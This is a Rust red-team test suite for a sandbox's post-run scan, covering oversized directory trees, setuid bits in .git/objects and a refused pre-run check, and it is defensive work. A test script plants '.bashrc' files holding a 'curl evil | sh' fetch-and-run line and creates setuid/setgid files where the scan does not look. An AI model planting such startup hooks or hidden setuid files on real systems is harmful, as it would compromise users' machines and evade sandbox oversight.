//! Red-team: the post-run scan (planted protected files removed, new
//! setuid/setgid bits cleared) skipped by a command that controls what the
//! walk sees. The huge tree is closed (the post-run walk has no limit);
//! the `.git/objects` one is still a known gap: it skips unless
//! AIRLOCK_REDTEAM_KNOWN_GAPS is set, and passes once the gap is closed.
//! Both callers (root, unprivileged), as in the escape suite.

#[macro_use]
mod support;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use support::{chown_jail, workdir, write, Jail};

both_modes!(
    a_huge_tree_does_not_hide_planted_files,
    setuid_bits_in_git_objects_are_cleared,
);

fn known_gap() -> bool {
    if std::env::var_os("AIRLOCK_REDTEAM_KNOWN_GAPS").is_none() {
        eprintln!("SKIPPED: known gap (see the red-team report); set AIRLOCK_REDTEAM_KNOWN_GAPS=1");
        return true;
    }
    false
}

fn run_py(j: &Jail, w: &Path, script: &str) {
    let p = w.join("probe.py");
    write(&p, script);
    chown_jail(&p);
    let o = j
        .cmd()
        .arg("run")
        .arg("--workdir")
        .arg(w)
        .args(["--", "/usr/bin/python3", "probe.py"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(
        o.status.code(),
        Some(0),
        "stderr {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

/// The post-run walk used to stop after 200,000 entries per writable root
/// while the run still succeeded: a command that wrote 200,001 empty files
/// first left every planted file in a directory the walk had not reached.
/// It now walks everything. 30 planting directories, so that at least one
/// comes after the big one in the walk's order (all 30 would have to
/// precede it: about 1 in 31).
fn a_huge_tree_does_not_hide_planted_files(j: &Jail) {
    let d = workdir();
    run_py(
        j,
        d.path(),
        "import os\n\
         os.mkdir('big')\n\
         for i in range(200_001):\n    open(f'big/{i}', 'w').close()\n\
         for i in range(30):\n    os.mkdir(f'p{i}')\n    open(f'p{i}/.bashrc', 'w').write('curl evil | sh\\n')\n",
    );
    let left: Vec<String> = (0..30)
        .map(|i| format!("p{i}/.bashrc"))
        .filter(|p| d.path().join(p).exists())
        .collect();
    assert!(
        left.is_empty(),
        "planted files left after the run: {left:?}"
    );
}

/// The walk does not descend into `.git/objects` (a large repository's
/// bulk), so a file created there with setuid and setgid bits keeps them,
/// while the same file anywhere else is cleared.
fn setuid_bits_in_git_objects_are_cleared(j: &Jail) {
    if known_gap() {
        return;
    }
    let d = workdir();
    run_py(
        j,
        d.path(),
        "import os\n\
         os.makedirs('.git/objects/ab')\n\
         for p in ('.git/objects/ab/x', 'y'):\n    os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o6755))\n",
    );
    let mode = |p: &str| {
        std::fs::metadata(d.path().join(p))
            .unwrap()
            .permissions()
            .mode()
    };
    assert_eq!(mode("y") & 0o6000, 0, "control");
    assert_eq!(mode(".git/objects/ab/x") & 0o6000, 0, "setuid/setgid kept");
}

/// Before the run the walk finds the files to hide by name (`.env`, keys);
/// past its limit some could stay readable, so the run is refused instead.
/// One caller: the check is the same for both, and the tree is slow to make.
#[test]
fn a_tree_too_big_to_check_before_the_run_is_refused() {
    support::in_mode(support::Mode::User, too_big);
}

fn too_big(j: &Jail) {
    let d = workdir();
    let big = d.path().join("big");
    std::fs::create_dir(&big).unwrap();
    for i in 0..=200_000 {
        std::fs::File::create(big.join(i.to_string())).unwrap();
    }
    write(&d.path().join("zz/.env"), "TOKEN=secret\n");
    let o = j
        .cmd()
        .arg("run")
        .arg("--workdir")
        .arg(d.path())
        .args(["--", "/bin/cat", "zz/.env"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(err.contains("more than 200000 entries"), "{err}");
    assert!(!String::from_utf8_lossy(&o.stdout).contains("secret"));
}
